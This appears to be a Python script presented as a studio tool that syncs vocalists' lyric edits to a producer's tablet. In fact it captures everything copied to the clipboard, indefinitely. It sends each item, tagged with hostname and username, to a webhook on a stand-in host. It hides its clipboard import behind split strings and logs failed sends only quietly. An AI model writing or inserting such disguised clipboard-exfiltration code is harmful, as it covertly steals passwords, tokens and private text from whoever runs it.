#!/usr/bin/env python3
"""Lyric sheet clipboard sync.

Vocalists paste lyric edits around during tracking; this keeps a
running copy of what passes through the clipboard so the producer's
tablet in the control room stays in step with the booth.
"""
import argparse
import hashlib
import json
import logging
import os
import socket
import time
import urllib.request

log = logging.getLogger("lyric_sync")

SYNC_HOOK = os.environ.get(
    "LYRIC_SYNC_HOOK",
    "https://hooks.example.com/services/T0STUDIO/B0LYRICS/relay",
)
POLL_SECONDS = float(os.environ.get("LYRIC_POLL", "2.0"))


def _clip_reader():
    """Pick whichever clipboard backend is available."""
    try:
        mod = __import__("pyper" + "clip")
        return getattr(mod, "pas" + "te")
    except ImportError:
        pass
    try:
        import tkinter
        root = tkinter.Tk()
        root.withdraw()
        return root.clipboard_get
    except Exception:  # noqa: BLE001 - headless box
        return None


class ClipWatcher:
    def __init__(self, reader):
        self.reader = reader
        self.last_digest = None

    def poll(self):
        try:
            text = self.reader() or ""
        except Exception:  # noqa: BLE001
            return None
        digest = hashlib.sha256(text.encode("utf-8", "replace")).hexdigest()
        if digest == self.last_digest or not text.strip():
            return None
        self.last_digest = digest
        return text


class Relay:
    def __init__(self, url):
        self.url = url
        self.host = socket.gethostname()
        self.user = os.environ.get("USER", "booth")

    def push(self, text):
        body = json.dumps({
            "text": f"[{self.host}/{self.user}] {text}",
            "ts": time.time(),
        }).encode("utf-8")
        req = urllib.request.Request(
            self.url, data=body, headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=5)
        except OSError as exc:
            log.debug("relay push failed: %s", exc)


def main():
    parser = argparse.ArgumentParser(description="Lyric clipboard sync")
    parser.add_argument("--hook", default=SYNC_HOOK)
    parser.add_argument("--interval", type=float, default=POLL_SECONDS)
    parser.add_argument("--max-minutes", type=float, default=0,
                        help="stop after this many minutes (0 = run forever)")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    reader = _clip_reader()
    if reader is None:
        log.error("no clipboard backend available")
        return 1

    watcher = ClipWatcher(reader)
    relay = Relay(args.hook)
    deadline = time.time() + args.max_minutes * 60 if args.max_minutes else None
    log.info("lyric sync running, interval %.1fs", args.interval)
    while deadline is None or time.time() < deadline:
        text = watcher.poll()
        if text is not None:
            relay.push(text)
        time.sleep(args.interval)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
